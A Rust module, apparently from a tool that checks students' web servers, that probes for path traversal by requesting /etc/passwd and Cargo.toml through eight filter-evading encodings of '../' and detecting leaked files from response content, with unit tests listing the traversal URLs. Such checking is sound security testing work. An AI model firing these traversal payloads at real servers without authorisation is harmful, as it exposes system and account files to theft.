//! Attempts to read files that lie outside of the folder of assets, in the spellings that slip past careless servers.
//!
//! What comes back is told by content: a page, or an error with whatever status, is no file.

use futures_util::StreamExt as _;
use reqwest::Url;

use crate::http::raw::{self, Raw};
use labcheck_core::facts::{Way, WayAnswer};

/// Spellings of `../`: plain, encoded in part and whole, twice encoded, with backslashes, and doubled for filters that
/// strip once.
const CLIMBS: [&str; 8] = [
    "../",
    "%2e%2e/",
    "..%2f",
    "%2e%2e%2f",
    "%252e%252e%252f",
    "..\\",
    "..%5c",
    "....//",
];
/// As many folders as any assets lie deep.
const DEEP: usize = 8;
/// Requests at a time: a student's server may answer one after the other.
const AT_ONCE: usize = 4;

/// The targets to ask for below a folder such as `/static/`.
pub(crate) fn targets(folder: &str) -> Vec<String> {
    let mut all = Vec::new();
    for climb in CLIMBS {
        let slash = climb.trim_start_matches(['.', '%', '2', '5', 'e']);
        let slash = match climb {
            "..%2f" | "%2e%2e%2f" => "%2f",
            "%252e%252e%252f" => "%252f",
            "..%5c" => "%5c",
            _ if slash.is_empty() => "/",
            _ => &slash[..1],
        };
        all.push(format!("{folder}{climb}Cargo.toml"));
        all.push(format!("{folder}{}etc{slash}passwd", climb.repeat(DEEP)));
    }
    all.extend(["/etc/passwd", "%2fetc%2fpasswd"].map(|file| format!("{folder}{file}")));
    all
}

/// The folder itself, and the first one of its path: whichever it is that a server hands out.
pub(crate) fn folders(folder: &Url) -> Vec<String> {
    let own = folder.path().to_owned();
    let first = own.split_inclusive('/').take(2).collect::<String>();
    if first == own {
        vec![own]
    } else {
        vec![own, first]
    }
}

/// Asks for all of them.
pub(crate) async fn attempts(address: &str, host: &str, folder: &Url) -> Vec<Way> {
    let all = folders(folder)
        .into_iter()
        .flat_map(|folder| targets(&folder));
    let each = all.map(|target| async move {
        let answer = raw::get(address, host, &target).await;
        Way {
            answer: answer.map(|raw| answered(&raw)),
            target,
        }
    });
    futures_util::stream::iter(each)
        .buffered(AT_ONCE)
        .collect()
        .await
}

fn answered(raw: &Raw) -> WayAnswer {
    WayAnswer {
        status: raw.status,
        media_type: raw.media_type.clone(),
        file: file(raw).map(str::to_owned),
    }
}

/// The file that an answer is, of those that were asked for.
fn file(raw: &Raw) -> Option<&'static str> {
    if !(200..300).contains(&raw.status) {
        return None;
    }
    let starts = |start: &str| {
        raw.body
            .lines()
            .any(|line| line.trim_start().starts_with(start))
    };
    let accounts = raw.body.lines().any(|line| {
        let mut fields = line.split(':');
        fields.next() == Some("root") && fields.nth(1) == Some("0") && fields.next() == Some("0")
    });
    if accounts {
        Some("/etc/passwd")
    } else if starts("[package]") && starts("name") {
        Some("Cargo.toml")
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn raw(status: u16, body: &str) -> Raw {
        Raw {
            status,
            media_type: String::new(),
            body: body.into(),
        }
    }

    #[test]
    fn every_spelling_is_tried_for_both_files() {
        let all = targets("/static/");
        assert_eq!(all.len(), 18);
        for target in [
            "/static/../Cargo.toml",
            "/static/%2e%2e%2fCargo.toml",
            "/static/..\\..\\..\\..\\..\\..\\..\\..\\etc\\passwd",
            "/static/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
            "/static/....//....//....//....//....//....//....//....//etc/passwd",
            "/static//etc/passwd",
        ] {
            assert!(
                all.iter().any(|found| found == target),
                "{target} is not in {all:?}"
            );
        }
    }

    #[test]
    fn a_deep_folder_is_tried_from_its_top_too() {
        let url = |path: &str| Url::parse(&format!("http://h{path}")).expect("an address");
        assert_eq!(folders(&url("/static/")), ["/static/"]);
        assert_eq!(
            folders(&url("/assets/build/css/")),
            ["/assets/build/css/", "/assets/"]
        );
        assert_eq!(folders(&url("/")), ["/"]);
    }

    #[test]
    fn files_are_told_by_content_and_pages_are_no_files() {
        assert_eq!(
            file(&raw(200, "root:x:0:0:root:/root:/bin/sh\nx")),
            Some("/etc/passwd")
        );
        assert_eq!(
            file(&raw(200, "[package]\nname = \"a\"")),
            Some("Cargo.toml")
        );
        assert_eq!(file(&raw(404, "root:x:0:0:root")), None);
        assert_eq!(file(&raw(200, "<html>root: 0:0</html>")), None);
    }
}
